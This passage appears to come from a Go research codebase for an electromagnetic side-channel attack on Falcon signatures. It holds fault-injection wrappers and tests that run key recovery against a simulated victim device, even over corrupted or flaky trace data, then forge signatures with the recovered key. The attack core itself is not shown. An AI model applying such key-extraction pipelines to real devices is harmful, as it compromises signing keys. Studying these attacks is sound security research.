