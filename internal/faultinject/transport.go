package faultinject

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"sync/atomic"
	"time"

	"falcondown/internal/rng"
)

// FlakyTransport is an http.RoundTripper that injects network-level
// faults into a cluster's coordinator→worker RPCs: dropped requests,
// dropped responses (the request WAS executed — the duplicate-delivery
// shape), delays, truncated response bodies, and response bit flips. The
// draw for the i-th request issued through the transport depends only on
// (Seed, i), so a fault schedule replays exactly.
//
// The fault classes map onto the failure matrix the coordinator must
// survive (see internal/cluster):
//
//	DropRequest  — the request never reaches the worker (partition before
//	               delivery); the worker does no work.
//	DropResponse — the worker executes the task but the response is lost
//	               (partition after delivery); a retry makes the worker
//	               compute the same cells twice, exercising the
//	               coordinator's exactly-once fold.
//	Truncate     — the response body is cut short (torn connection).
//	FlipBit      — one byte of the response body is corrupted in flight;
//	               the CRC frame must reject it before any decode.
//	Delay        — the response is held for Delay (a straggler link).
type FlakyTransport struct {
	// Inner performs real round trips; nil means http.DefaultTransport.
	Inner http.RoundTripper
	// Seed anchors the per-request fault draws.
	Seed uint64

	// Per-request fault probabilities, drawn in the order declared here.
	DropRequest  float64
	DropResponse float64
	Truncate     float64
	FlipBit      float64
	DelayProb    float64
	// Delay is how long a delayed response is held.
	Delay time.Duration

	calls atomic.Uint64
}

// Calls reports how many round trips were attempted through the
// transport.
func (t *FlakyTransport) Calls() int { return int(t.calls.Load()) }

// RoundTrip applies the request's fault schedule around the inner round
// trip.
func (t *FlakyTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	idx := t.calls.Add(1) - 1
	r := rng.New(rng.DeriveSeed(t.Seed, idx))
	dropReq := t.DropRequest > 0 && r.Float64() < t.DropRequest
	dropResp := t.DropResponse > 0 && r.Float64() < t.DropResponse
	trunc := t.Truncate > 0 && r.Float64() < t.Truncate
	flip := t.FlipBit > 0 && r.Float64() < t.FlipBit
	delay := t.DelayProb > 0 && r.Float64() < t.DelayProb

	if dropReq {
		return nil, fmt.Errorf("faultinject: request %d dropped before delivery", idx)
	}
	inner := t.Inner
	if inner == nil {
		inner = http.DefaultTransport
	}
	resp, err := inner.RoundTrip(req)
	if err != nil {
		return nil, err
	}
	if delay && t.Delay > 0 {
		time.Sleep(t.Delay)
	}
	if dropResp {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return nil, fmt.Errorf("faultinject: response %d dropped after execution", idx)
	}
	if !trunc && !flip {
		return resp, nil
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		return nil, err
	}
	if trunc && len(body) > 1 {
		body = body[:1+r.Intn(len(body)-1)]
	}
	if flip && len(body) > 0 {
		// Corrupt one byte somewhere in the payload; the CRC frame, not
		// JSON syntax, must be what catches it.
		body[r.Intn(len(body))] ^= 1 << uint(r.Intn(8))
	}
	resp.Body = io.NopCloser(bytes.NewReader(body))
	resp.ContentLength = int64(len(body))
	return resp, nil
}
