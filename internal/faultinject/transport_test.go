package faultinject

import (
	"io"
	"net/http"
	"net/http/httptest"
	"testing"
)

// transportOutcome classifies one round trip through a FlakyTransport.
func transportOutcome(t *testing.T, ft *FlakyTransport, url string) string {
	t.Helper()
	resp, err := (&http.Client{Transport: ft}).Get(url)
	if err != nil {
		return "err:" + errClass(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return "readerr"
	}
	return "body:" + string(body)
}

func errClass(err error) string {
	// Collapse transport errors to their fault class; net/http wraps them
	// with scheme/host noise.
	s := err.Error()
	switch {
	case contains(s, "dropped before delivery"):
		return "dropreq"
	case contains(s, "dropped after execution"):
		return "dropresp"
	default:
		return "other"
	}
}

func contains(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}

func TestFlakyTransportDeterministicInSeed(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "the quick brown fox jumps over the lazy dog")
	}))
	defer srv.Close()

	schedule := func() []string {
		ft := &FlakyTransport{Seed: 7, DropRequest: 0.2, DropResponse: 0.2, Truncate: 0.2, FlipBit: 0.2}
		var out []string
		for i := 0; i < 40; i++ {
			out = append(out, transportOutcome(t, ft, srv.URL))
		}
		return out
	}
	a, b := schedule(), schedule()
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("request %d: schedule diverged across replays:\n  %s\n  %s", i, a[i], b[i])
		}
	}

	// The schedule must actually contain every fault class at these rates.
	seen := map[string]bool{}
	clean := "body:the quick brown fox jumps over the lazy dog"
	for _, o := range a {
		switch {
		case o == clean:
			seen["clean"] = true
		case o == "err:dropreq":
			seen["dropreq"] = true
		case o == "err:dropresp":
			seen["dropresp"] = true
		default:
			seen["damaged"] = true // truncated or bit-flipped body
		}
	}
	for _, class := range []string{"clean", "dropreq", "dropresp", "damaged"} {
		if !seen[class] {
			t.Fatalf("40 draws at 20%% rates never produced class %q (schedule: %v)", class, a)
		}
	}

	// A different seed gives a different schedule.
	ft := &FlakyTransport{Seed: 8, DropRequest: 0.2, DropResponse: 0.2, Truncate: 0.2, FlipBit: 0.2}
	var diverged bool
	for i := 0; i < 40; i++ {
		if transportOutcome(t, ft, srv.URL) != a[i] {
			diverged = true
			break
		}
	}
	if !diverged {
		t.Fatal("seeds 7 and 8 produced identical 40-request schedules")
	}
	if ft.Calls() == 0 {
		t.Fatal("Calls() never advanced")
	}
}

func TestFlakyTransportCleanPassThrough(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "payload")
	}))
	defer srv.Close()
	ft := &FlakyTransport{Seed: 1} // all probabilities zero
	for i := 0; i < 5; i++ {
		if got := transportOutcome(t, ft, srv.URL); got != "body:payload" {
			t.Fatalf("request %d through a fault-free transport: %s", i, got)
		}
	}
	if ft.Calls() != 5 {
		t.Fatalf("Calls() = %d, want 5", ft.Calls())
	}
}
