package faultinject

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

// victim builds the standard n=8 fixture: keygen seed 41, device seed 42.
func victim(t *testing.T, noise float64) (*emleak.Device, *falcon.PrivateKey, *falcon.PublicKey) {
	t.Helper()
	priv, pub, err := falcon.GenerateKey(8, rng.New(41))
	if err != nil {
		t.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: noise}, 42)
	return dev, priv, pub
}

func collect(t *testing.T, dev *emleak.Device, count int) []emleak.Observation {
	t.Helper()
	obs, err := emleak.NewCampaign(dev, 43).Collect(count)
	if err != nil {
		t.Fatal(err)
	}
	return obs
}

// TestQuarantinedChunkFullRecovery is the headline degradation gate: a
// corpus with an injected bad chunk fails a strict open, but a lenient
// open quarantines exactly the damaged chunk, reports it, and the attack
// completes a full key recovery on what survives.
func TestQuarantinedChunkFullRecovery(t *testing.T) {
	dev, _, pub := victim(t, 1.5)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w, err := tracestore.NewWriter(path, 8, tracestore.Options{ChunkObs: 50})
	if err != nil {
		t.Fatal(err)
	}
	if err := tracestore.Acquire(context.Background(), dev, 43, 1200, w, tracestore.AcquireOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	// Corrupt one byte mid-file: with 24 data chunks dominating the shard
	// this lands inside exactly one chunk region (payload or header), and
	// either way exactly that chunk must be quarantined.
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := FlipBit(path, st.Size()/2, 0x40); err != nil {
		t.Fatal(err)
	}

	// Strict mode must detect the damage no later than the first sweep,
	// with a typed error.
	if strict, err := tracestore.Open(path); err == nil {
		it, err := strict.Iterate()
		if err != nil {
			t.Fatal(err)
		}
		for err == nil {
			_, err = it.Next()
		}
		it.Close()
		if !errors.Is(err, tracestore.ErrChecksum) && !errors.Is(err, tracestore.ErrBadFormat) {
			t.Fatalf("strict iteration over a corrupted corpus: %v", err)
		}
	} else if !errors.Is(err, tracestore.ErrChecksum) && !errors.Is(err, tracestore.ErrBadFormat) {
		t.Fatalf("strict open failed with an untyped error: %v", err)
	}

	corpus, health, err := tracestore.OpenLenient(path)
	if err != nil {
		t.Fatal(err)
	}
	if !health.Degraded() || len(health.Quarantined) != 1 {
		t.Fatalf("health = %+v, want exactly one quarantined chunk", health)
	}
	if health.Lost != 50 || health.Healthy != 1150 || corpus.Count() != 1150 {
		t.Fatalf("lost %d healthy %d count %d, want 50/1150/1150",
			health.Lost, health.Healthy, corpus.Count())
	}
	q := health.Quarantined[0]
	if q.Shard != path || q.Observations != 50 || q.Reason == "" {
		t.Fatalf("quarantine record incomplete: %+v", q)
	}

	priv, report, err := core.RecoverKeyFrom(corpus, pub, core.Config{})
	if err != nil {
		t.Fatalf("recovery on the degraded corpus failed: %v", err)
	}
	if len(report.Values) != 8 {
		t.Fatalf("recovered %d values, want 8", len(report.Values))
	}
	// The break must be demonstrable: forge a signature the victim's
	// public key accepts.
	msg := []byte("forged over a damaged corpus")
	sig, err := priv.Sign(msg, rng.New(7))
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("forged signature rejected: %v", err)
	}
}

// TestTransientFaultsRetriedMidAttack proves the sweep retry: a source
// that periodically throws transient I/O errors yields the same attack
// results, bit-for-bit, as a clean one.
func TestTransientFaultsRetriedMidAttack(t *testing.T) {
	dev, _, _ := victim(t, 2.0)
	obs := collect(t, dev, 400)
	clean := tracestore.NewSliceSource(8, obs)

	wantFFT, wantVals, err := core.AttackFFTfFrom(clean, core.Config{})
	if err != nil {
		t.Fatal(err)
	}
	flaky := NewSource(tracestore.NewSliceSource(8, obs), 151, 0)
	gotFFT, gotVals, err := core.AttackFFTfFrom(flaky, core.Config{})
	if err != nil {
		t.Fatalf("attack over a transiently failing source: %v", err)
	}
	for k := range wantFFT {
		if wantFFT[k] != gotFFT[k] {
			t.Fatalf("coefficient %d differs under transient faults", k)
		}
	}
	for v := range wantVals {
		if wantVals[v].Value != gotVals[v].Value || wantVals[v].PruneCorr != gotVals[v].PruneCorr {
			t.Fatalf("value %d differs under transient faults", v)
		}
	}
}

// TestPersistentTransientsGiveUp: when every read faults, the bounded
// backoff must exhaust and surface a typed error instead of spinning.
func TestPersistentTransientsGiveUp(t *testing.T) {
	dev, _, _ := victim(t, 2.0)
	obs := collect(t, dev, 50)
	src := NewSource(tracestore.NewSliceSource(8, obs), 1, 0) // all calls fault, forever
	_, _, err := core.AttackFFTfFrom(src, core.Config{})
	if err == nil {
		t.Fatal("attack succeeded over a source that never delivers")
	}
	if !errors.Is(err, tracestore.ErrTransient) {
		t.Fatalf("got %v, want a tracestore.ErrTransient chain", err)
	}
}

// TestUnrecoverableValuesDiagnosed is the partial-report gate: a campaign
// too noisy to establish the key must fail with a RecoveryReport naming
// which values failed and why, not a bare error.
func TestUnrecoverableValuesDiagnosed(t *testing.T) {
	dev, _, pub := victim(t, 40)
	obs := collect(t, dev, 240)
	_, report, err := core.RecoverKey(obs, pub, core.Config{})
	if err == nil {
		t.Fatal("recovery succeeded on hopeless noise")
	}
	if !errors.Is(err, core.ErrImplausibleKey) {
		t.Fatalf("got %v, want an ErrImplausibleKey chain", err)
	}
	if report == nil || len(report.Failed) == 0 {
		t.Fatalf("failure carries no per-value diagnosis: report=%+v", report)
	}
	for _, f := range report.Failed {
		if f.Index != 2*f.Coeff+int(f.Part) {
			t.Fatalf("inconsistent failure coordinates: %+v", f)
		}
		if f.Reason == "" || f.String() == "" {
			t.Fatalf("failure without a reason: %+v", f)
		}
	}
}

// TestAutoRecoverGrowsTraceBudget: a campaign too small on the first
// attempt must be grown (reusing every earlier measurement) until the key
// comes out.
func TestAutoRecoverGrowsTraceBudget(t *testing.T) {
	dev, _, pub := victim(t, 6)
	var sizes []int
	var errs []error
	priv, report, err := core.AutoRecover(dev, 43, pub, core.Config{}, core.AutoOptions{
		InitialTraces: 240,
		MaxTraces:     480,
		OnAttempt: func(traces int, aerr error) {
			sizes = append(sizes, traces)
			errs = append(errs, aerr)
		},
	})
	if err != nil {
		t.Fatalf("auto recovery failed: %v", err)
	}
	if len(sizes) < 2 {
		t.Fatalf("succeeded in %d attempt(s); fixture was meant to force budget growth (sizes %v)", len(sizes), sizes)
	}
	if errs[0] == nil {
		t.Fatal("first undersized attempt reported success")
	}
	if errs[len(errs)-1] != nil {
		t.Fatalf("final attempt reported %v after overall success", errs[len(errs)-1])
	}
	for i := 1; i < len(sizes); i++ {
		if sizes[i] <= sizes[i-1] {
			t.Fatalf("campaign did not grow between attempts: %v", sizes)
		}
	}
	msg := []byte("forged adaptively")
	sig, err := priv.Sign(msg, rng.New(7))
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("forged signature rejected: %v", err)
	}
	if len(report.Values) != 8 {
		t.Fatalf("report carries %d values, want 8", len(report.Values))
	}
}

// TestAutoRecoverBudgetExhaustion: when the trace budget runs out the
// error must say so and the partial report must diagnose the failures.
func TestAutoRecoverBudgetExhaustion(t *testing.T) {
	dev, _, pub := victim(t, 6)
	var sizes []int
	_, report, err := core.AutoRecover(dev, 43, pub, core.Config{}, core.AutoOptions{
		InitialTraces: 60,
		MaxTraces:     120,
		OnAttempt:     func(traces int, aerr error) { sizes = append(sizes, traces) },
	})
	if err == nil {
		t.Fatal("recovery succeeded inside a budget chosen to be insufficient")
	}
	if !strings.Contains(err.Error(), "budget") {
		t.Fatalf("exhaustion error does not mention the budget: %v", err)
	}
	if !errors.Is(err, core.ErrImplausibleKey) {
		t.Fatalf("exhaustion error does not chain the last attempt's cause: %v", err)
	}
	if report == nil || len(report.Failed) == 0 {
		t.Fatal("budget exhaustion without a per-value diagnosis")
	}
	if len(sizes) != 2 || sizes[0] != 60 || sizes[1] != 120 {
		t.Fatalf("attempt sizes %v, want [60 120]", sizes)
	}
}

// TestDeviceFaultSchedule: the corrupting device wrapper is deterministic
// in (seed, index) and its knobs do what they say.
func TestDeviceFaultSchedule(t *testing.T) {
	dev, _, _ := victim(t, 1.5)

	clean, err := emleak.ObservationAt(dev, 43, 5)
	if err != nil {
		t.Fatal(err)
	}

	// No fault probability: transparent wrapper.
	quiet := NewDevice(dev, 7, 0, 0)
	if quiet.N() != dev.N() {
		t.Fatalf("N() = %d, want %d", quiet.N(), dev.N())
	}
	o, err := quiet.ObservationAt(43, 5)
	if err != nil {
		t.Fatal(err)
	}
	for i := range clean.Trace.Samples {
		if o.Trace.Samples[i] != clean.Trace.Samples[i] {
			t.Fatal("zero-probability wrapper altered a sample")
		}
	}

	// Certain flip: exactly one sample negated, same one every time.
	flipper := NewDevice(dev, 7, 1, 0)
	a, err := flipper.ObservationAt(43, 5)
	if err != nil {
		t.Fatal(err)
	}
	b, err := flipper.ObservationAt(43, 5)
	if err != nil {
		t.Fatal(err)
	}
	diffs := 0
	for i := range clean.Trace.Samples {
		if a.Trace.Samples[i] != clean.Trace.Samples[i] {
			diffs++
			if a.Trace.Samples[i] != -clean.Trace.Samples[i] {
				t.Fatalf("sample %d was altered, not negated", i)
			}
		}
		if a.Trace.Samples[i] != b.Trace.Samples[i] {
			t.Fatalf("fault schedule not deterministic at sample %d", i)
		}
	}
	if diffs != 1 {
		t.Fatalf("%d samples flipped, want exactly 1", diffs)
	}

	// Certain error: the measurement fails.
	if _, err := NewDevice(dev, 7, 0, 1).ObservationAt(43, 5); err == nil {
		t.Fatal("ErrProb=1 wrapper returned a measurement")
	}
}

// collectAppender records appends for the Appender wrapper test.
type collectAppender struct{ got int }

func (c *collectAppender) Append(emleak.Observation) error {
	c.got++
	return nil
}

func TestAppenderFailSchedule(t *testing.T) {
	inner := &collectAppender{}
	boom := errors.New("injected write failure")
	app := NewAppender(inner, 2, boom)
	for i := 0; i < 4; i++ {
		err := app.Append(emleak.Observation{})
		if i == 2 {
			if !errors.Is(err, boom) {
				t.Fatalf("append %d: got %v, want the injected failure", i, err)
			}
			continue
		}
		if err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
	if app.Appended() != 4 {
		t.Fatalf("Appended() = %d, want 4", app.Appended())
	}
	if inner.got != 3 {
		t.Fatalf("inner received %d appends, want 3 (one was injected away)", inner.got)
	}
}

func TestAtRestCorruptionHelpers(t *testing.T) {
	path := filepath.Join(t.TempDir(), "blob")
	if err := os.WriteFile(path, []byte("abcdefgh"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := FlipBit(path, 3, 0x20); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(raw) != "abcDefgh" {
		t.Fatalf("after flip: %q", raw)
	}
	// XOR is its own inverse.
	if err := FlipBit(path, 3, 0x20); err != nil {
		t.Fatal(err)
	}
	if raw, _ = os.ReadFile(path); string(raw) != "abcdefgh" {
		t.Fatalf("after unflip: %q", raw)
	}
	if err := TruncateTail(path, 5); err != nil {
		t.Fatal(err)
	}
	if raw, _ = os.ReadFile(path); string(raw) != "abc" {
		t.Fatalf("after truncate: %q", raw)
	}
	// Overshoot clamps to empty rather than failing.
	if err := TruncateTail(path, 99); err != nil {
		t.Fatal(err)
	}
	if st, _ := os.Stat(path); st.Size() != 0 {
		t.Fatalf("overshoot truncate left %d bytes", st.Size())
	}
}
