package faultinject

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

func TestVirtualClockAdvanceFiresTimers(t *testing.T) {
	c := NewVirtualClock()
	t0 := c.Now()
	ch1 := c.After(100 * time.Millisecond)
	ch2 := c.After(300 * time.Millisecond)
	if c.Pending() != 2 {
		t.Fatalf("Pending = %d", c.Pending())
	}
	c.Advance(150 * time.Millisecond)
	select {
	case at := <-ch1:
		if got := at.Sub(t0); got != 100*time.Millisecond {
			t.Fatalf("timer fired at +%v", got)
		}
	default:
		t.Fatal("100ms timer did not fire after 150ms advance")
	}
	select {
	case <-ch2:
		t.Fatal("300ms timer fired early")
	default:
	}
	c.Advance(150 * time.Millisecond)
	select {
	case <-ch2:
	default:
		t.Fatal("300ms timer did not fire after 300ms total")
	}
	if got := c.Now().Sub(t0); got != 300*time.Millisecond {
		t.Fatalf("Now advanced by %v", got)
	}
}

func TestVirtualClockImmediateAfter(t *testing.T) {
	c := NewVirtualClock()
	select {
	case <-c.After(0):
	default:
		t.Fatal("zero-duration After must be ready immediately")
	}
}

func TestVirtualClockSleepAdvancesAndHonorsCtx(t *testing.T) {
	c := NewVirtualClock()
	t0 := c.Now()
	if err := c.Sleep(context.Background(), time.Second); err != nil {
		t.Fatal(err)
	}
	if c.Now().Sub(t0) != time.Second {
		t.Fatal("Sleep did not advance the clock")
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := c.Sleep(ctx, time.Second); !errors.Is(err, context.Canceled) {
		t.Fatalf("Sleep on cancelled ctx = %v", err)
	}
}

// A hung goroutine sleeping on the virtual clock drives another
// goroutine's After deadline — the interplay the supervisor tests rely
// on — without any wall-clock sleeps.
func TestVirtualClockHangDrivesWaiters(t *testing.T) {
	c := NewVirtualClock()
	ctx, cancel := context.WithCancel(context.Background())
	deadline := c.After(2 * time.Second)

	var wg sync.WaitGroup
	wg.Add(1)
	go func() { // the "hung device"
		defer wg.Done()
		for c.Sleep(ctx, 250*time.Millisecond) == nil {
		}
	}()

	<-deadline // only reachable if the hanger advances virtual time
	cancel()
	wg.Wait()
}

func scriptedVictim(t *testing.T) *emleak.Device {
	t.Helper()
	priv, _, err := falcon.GenerateKey(8, rng.New(1))
	if err != nil {
		t.Fatal(err)
	}
	return emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, emleak.Probe{Gain: 1, NoiseSigma: 1}, 2)
}

func TestScriptedDevice(t *testing.T) {
	dev := scriptedVictim(t)
	c := NewVirtualClock()
	injected := errors.New("scripted failure")
	sd := NewScriptedDevice(dev, c).
		On(3, Step{Err: injected}, Step{Delay: 100 * time.Millisecond})

	if _, err := sd.Measure(context.Background(), 7, 3); !errors.Is(err, injected) {
		t.Fatalf("first call err = %v", err)
	}
	t0 := c.Now()
	o, err := sd.Measure(context.Background(), 7, 3)
	if err != nil {
		t.Fatal(err)
	}
	if c.Now().Sub(t0) != 100*time.Millisecond {
		t.Fatal("scripted delay did not advance the virtual clock")
	}
	want, err := emleak.ObservationAt(dev.Clone(0), 7, 3)
	if err != nil {
		t.Fatal(err)
	}
	for j := range want.Trace.Samples {
		if o.Trace.Samples[j] != want.Trace.Samples[j] {
			t.Fatal("scripted device observation differs from ObservationAt")
		}
	}
	// Unscripted indices succeed immediately.
	if _, err := sd.Measure(context.Background(), 7, 99); err != nil {
		t.Fatal(err)
	}
	if sd.Calls() != 3 {
		t.Fatalf("Calls = %d", sd.Calls())
	}
}

func TestScriptedDeviceHang(t *testing.T) {
	dev := scriptedVictim(t)
	c := NewVirtualClock()
	sd := NewScriptedDevice(dev, c).On(0, Step{Hang: true})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := sd.Measure(ctx, 1, 0)
		done <- err
	}()
	// The hang loop spins the virtual clock; cancel and it must return.
	cancel()
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Fatalf("hang returned %v", err)
	}
}
