package faultinject

import (
	"context"
	"runtime"
	"sort"
	"sync"
	"time"

	"falcondown/internal/emleak"
)

// VirtualClock is a deterministic emleak.Clock for supervisor tests: time
// is a logical counter that only moves when someone sleeps, so suites
// exercising multi-second timeout/backoff/breaker schedules finish in
// microseconds with zero wall-clock dependence.
//
// Sleep advances the clock by the requested duration instead of
// blocking; every Advance fires the After timers whose deadlines it
// crossed, in deadline order. A goroutine modeling a hung device thus
// drives the deadlines of everyone waiting on the same clock — exactly
// the role wall time plays on a real bench.
type VirtualClock struct {
	mu     sync.Mutex
	now    time.Time
	timers []*vtimer // sorted by deadline
}

type vtimer struct {
	deadline time.Time
	ch       chan time.Time
}

// NewVirtualClock returns a clock starting at a fixed epoch.
func NewVirtualClock() *VirtualClock {
	return &VirtualClock{now: time.Unix(0, 0)}
}

// Now implements emleak.Clock.
func (c *VirtualClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// After implements emleak.Clock: the returned channel delivers once the
// virtual clock reaches now+d.
func (c *VirtualClock) After(d time.Duration) <-chan time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	t := &vtimer{deadline: c.now.Add(d), ch: make(chan time.Time, 1)}
	if !t.deadline.After(c.now) {
		t.ch <- c.now
		return t.ch
	}
	i := sort.Search(len(c.timers), func(i int) bool {
		return c.timers[i].deadline.After(t.deadline)
	})
	c.timers = append(c.timers, nil)
	copy(c.timers[i+1:], c.timers[i:])
	c.timers[i] = t
	return t.ch
}

// Sleep implements emleak.Clock: it checks ctx, advances the virtual
// clock by d (firing any timers that deadline within the window), and
// checks ctx again — never blocking on wall time.
func (c *VirtualClock) Sleep(ctx context.Context, d time.Duration) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	c.Advance(d)
	// Yield so goroutines released by the fired timers get scheduled
	// before the sleeper loops around (a hung device stepping the clock
	// must let deadline waiters react between steps).
	runtime.Gosched()
	return ctx.Err()
}

// Advance moves the clock forward by d, delivering every timer whose
// deadline falls within the window, in deadline order.
func (c *VirtualClock) Advance(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	fired := 0
	for fired < len(c.timers) && !c.timers[fired].deadline.After(c.now) {
		c.timers[fired].ch <- c.timers[fired].deadline
		fired++
	}
	c.timers = c.timers[fired:]
	c.mu.Unlock()
}

// Pending reports how many timers are armed (test introspection).
func (c *VirtualClock) Pending() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.timers)
}

var _ emleak.Clock = (*VirtualClock)(nil)

// ScriptedDevice is a pool-device test double driven by an explicit
// per-index script instead of probabilities: exact control over which
// observation hangs, errors, or delays, for supervisor tests that assert
// precise retry/breaker/hedge behavior.
type ScriptedDevice struct {
	dev   *emleak.Device
	clock emleak.Clock

	mu     sync.Mutex
	script map[uint64][]Step // consumed front-first per index
	calls  int
}

// Step is one scripted Measure outcome.
type Step struct {
	// Delay is slept (through the clock) before the outcome applies.
	Delay time.Duration
	// Hang, when set, ignores Err and blocks until ctx is cancelled.
	Hang bool
	// Err, when non-nil, fails the call after Delay.
	Err error
}

// NewScriptedDevice wraps dev; clock may be nil for wall time.
func NewScriptedDevice(dev *emleak.Device, clock emleak.Clock) *ScriptedDevice {
	if clock == nil {
		clock = emleak.WallClock{}
	}
	return &ScriptedDevice{dev: dev, clock: clock, script: make(map[uint64][]Step)}
}

// On appends scripted steps for observation idx: the first Measure(idx)
// call consumes the first step, and so on; calls beyond the script
// succeed immediately.
func (d *ScriptedDevice) On(idx uint64, steps ...Step) *ScriptedDevice {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.script[idx] = append(d.script[idx], steps...)
	return d
}

// Calls reports how many Measure calls the device has served.
func (d *ScriptedDevice) Calls() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.calls
}

// N returns the wrapped device's ring degree.
func (d *ScriptedDevice) N() int { return d.dev.N() }

// Measure implements the supervisor's Device interface.
func (d *ScriptedDevice) Measure(ctx context.Context, seed, idx uint64) (emleak.Observation, error) {
	d.mu.Lock()
	d.calls++
	var step Step
	if s := d.script[idx]; len(s) > 0 {
		step = s[0]
		d.script[idx] = s[1:]
	}
	d.mu.Unlock()
	if step.Delay > 0 {
		if err := d.clock.Sleep(ctx, step.Delay); err != nil {
			return emleak.Observation{}, err
		}
	}
	if step.Hang {
		for {
			if err := d.clock.Sleep(ctx, 250*time.Millisecond); err != nil {
				return emleak.Observation{}, err
			}
		}
	}
	if step.Err != nil {
		return emleak.Observation{}, step.Err
	}
	if err := ctx.Err(); err != nil {
		return emleak.Observation{}, err
	}
	return emleak.ObservationAt(d.dev.Clone(0), seed, idx)
}
