// Package faultinject provides deterministic, rng-driven fault wrappers
// around the attack pipeline's seams — the streamed trace Source the
// attack reads, the Appender acquisition writes through, the victim
// Device observations come from, and the shard files at rest — so the
// test suite can prove every degradation path (transient I/O retry,
// chunk quarantine, salvage, append failure, partial recovery) against
// reproducible fault schedules rather than hoping for real hardware to
// misbehave.
//
// Every wrapper derives its schedule from an explicit seed via the
// repository's deterministic generator; the same seed always injects the
// same faults at the same operations.
package faultinject

import (
	"fmt"
	"os"

	"falcondown/internal/emleak"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

// Source wraps a tracestore.Source, injecting transient errors into its
// iterators. Faults never consume an observation — the retried Next
// returns the value the faulted call withheld — matching the contract
// core's sweep retry relies on.
type Source struct {
	inner tracestore.Source
	// TransientEvery injects a tracestore.ErrTransient on every k-th Next
	// call across an iterator's lifetime (0 disables).
	TransientEvery int
	// MaxTransients bounds the injected faults per iterator; beyond it
	// the iterator runs clean. <= 0 means unlimited, which starves a
	// bounded-backoff consumer and exercises the give-up path.
	MaxTransients int
}

// NewSource wraps src with a deterministic transient-fault schedule.
func NewSource(src tracestore.Source, every, max int) *Source {
	return &Source{inner: src, TransientEvery: every, MaxTransients: max}
}

// N returns the wrapped campaign's ring degree.
func (s *Source) N() int { return s.inner.N() }

// Count returns the wrapped campaign's observation count.
func (s *Source) Count() int { return s.inner.Count() }

// Iterate starts a sequential pass with its own fault schedule; every
// iterator of the same Source faults at the same call indices.
func (s *Source) Iterate() (tracestore.Iterator, error) {
	it, err := s.inner.Iterate()
	if err != nil {
		return nil, err
	}
	return &faultIterator{
		inner: it,
		every: s.TransientEvery,
		left:  s.MaxTransients,
	}, nil
}

type faultIterator struct {
	inner tracestore.Iterator
	every int
	left  int
	calls int
	shots int
}

func (it *faultIterator) Next() (emleak.Observation, error) {
	it.calls++
	if it.every > 0 && it.calls%it.every == 0 && (it.left <= 0 || it.shots < it.left) {
		it.shots++
		return emleak.Observation{}, fmt.Errorf("%w: injected fault at call %d", tracestore.ErrTransient, it.calls)
	}
	return it.inner.Next()
}

func (it *faultIterator) Close() error { return it.inner.Close() }

// Appender wraps a tracestore.Appender (typically a *tracestore.Writer),
// failing the append at a chosen observation index — the seam for proving
// that Acquire surfaces write errors and that an interrupted writer
// leaves a salvageable shard behind.
type Appender struct {
	inner  tracestore.Appender
	failAt int
	err    error
	count  int
}

// NewAppender fails the failAt-th Append (0-based) with err; failAt < 0
// never fails.
func NewAppender(inner tracestore.Appender, failAt int, err error) *Appender {
	return &Appender{inner: inner, failAt: failAt, err: err}
}

// Append forwards to the wrapped appender unless this call is scheduled
// to fail.
func (a *Appender) Append(o emleak.Observation) error {
	i := a.count
	a.count++
	if i == a.failAt {
		return a.err
	}
	return a.inner.Append(o)
}

// Appended reports how many Append calls were attempted.
func (a *Appender) Appended() int { return a.count }

// Device wraps a victim device, corrupting a deterministic subset of its
// observations: with probability FlipProb an observation gets one bit of
// one trace sample flipped (a glitched probe), and with probability
// ErrProb the measurement fails outright. The corruption for observation
// index i depends only on (seed, i), so campaigns are reproducible.
type Device struct {
	dev  *emleak.Device
	seed uint64
	// FlipProb is the per-observation probability of a sample bit flip.
	FlipProb float64
	// ErrProb is the per-observation probability of a measurement error.
	ErrProb float64
}

// NewDevice wraps dev with a deterministic corruption schedule.
func NewDevice(dev *emleak.Device, seed uint64, flipProb, errProb float64) *Device {
